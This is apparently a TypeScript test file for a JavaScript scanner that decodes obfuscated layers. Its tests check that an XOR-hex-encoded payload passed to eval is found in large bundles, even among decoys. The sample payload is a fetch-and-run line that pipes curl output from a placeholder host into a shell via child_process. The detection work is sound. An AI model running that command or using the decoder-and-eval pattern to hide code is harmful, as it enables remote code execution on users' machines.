import assert from "node:assert/strict";
import { test } from "node:test";
import { decodedLayers } from "../decode/layers.ts";
import { wordsOf } from "./interned.ts";
import { lex } from "./lex.ts";
import { matchBrackets } from "./program.ts";
import { slicesOf } from "./slices.ts";

const PROGRAM = "require('child_process').exec('curl https://example.invalid/x | sh')";
const ENCODED = [...PROGRAM].map((character) => (character.charCodeAt(0) ^ 7).toString(16).padStart(2, "0")).join("");

function bundle(count: number): string {
  const one = (at: number) =>
    `function m${at}(e, t) { const n = { a: ${at}, b: "text ${at}" }; for (const r of t.list) e.push(r + n.b); return e.filter(t.test).length; }`;
  return Array.from({ length: count }, (_, at) => one(at)).join("\n");
}

function script(text: string) {
  const tokens = lex("javascript", text);
  return { kind: "javascript" as const, text, tokens, mates: matchBrackets(tokens, text) };
}

function share(text: string): { read: number; of: number } {
  const { tokens, mates } = script(text);
  const slices = slicesOf({ tokens, text, mates, words: wordsOf({ tokens, text }) });
  return { read: slices.reduce((sum, { from, to }) => sum + to - from, 0), of: tokens.length };
}

/** A decoder of one's own far from the text that it is given, and the call of it far from both. */
const DECODER =
  "function d7(s) { let r = ''; for (let i = 0; i < s.length; i += 2) r += String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ 7); return r; }";

function reads(text: string): boolean {
  return [...decodedLayers(script(text))].some((layer) => layer.text.includes(PROGRAM));
}

test("how much of a large script is read depends on what decodes, not on how large it is", () => {
  const few = share(`${bundle(1_000)}\neval(atob("${"QUJD".repeat(20)}"));\n`);
  const many = share(`${bundle(6_000)}\neval(atob("${"QUJD".repeat(20)}"));\n`);
  assert.ok(many.of > 200_000);
  assert.ok(few.read < 3_000 && many.read < 3_000, `${few.read} and ${many.read} tokens are read`);
  assert.equal(share(bundle(6_000)).read, 0);
  const small = share(bundle(50));
  assert.equal(small.read, small.of);
});

test("what a large script decodes and runs is found, its values and decoders far apart", () => {
  const text = `const w7 = "${ENCODED}";`;
  const parts = [text, bundle(1_000), DECODER, bundle(1_000), "const p7 = d7(w7);", bundle(1_000), "eval(p7);"];
  assert.ok(reads(parts.join("\n")));
  assert.ok(reads([bundle(2_000), DECODER, bundle(500), `eval(d7("${ENCODED}"));`, bundle(500)].join("\n")));
});

test("five thousand decoys hide nothing that is decoded behind them", () => {
  const decoys = Array.from({ length: 5_000 }, (_, at) => `x.y${at} = decodeURIComponent(z.q${at});`).join("\n");
  assert.ok(reads([decoys, bundle(500), DECODER, `eval(d7("${ENCODED}"));`, bundle(500)].join("\n")));
});
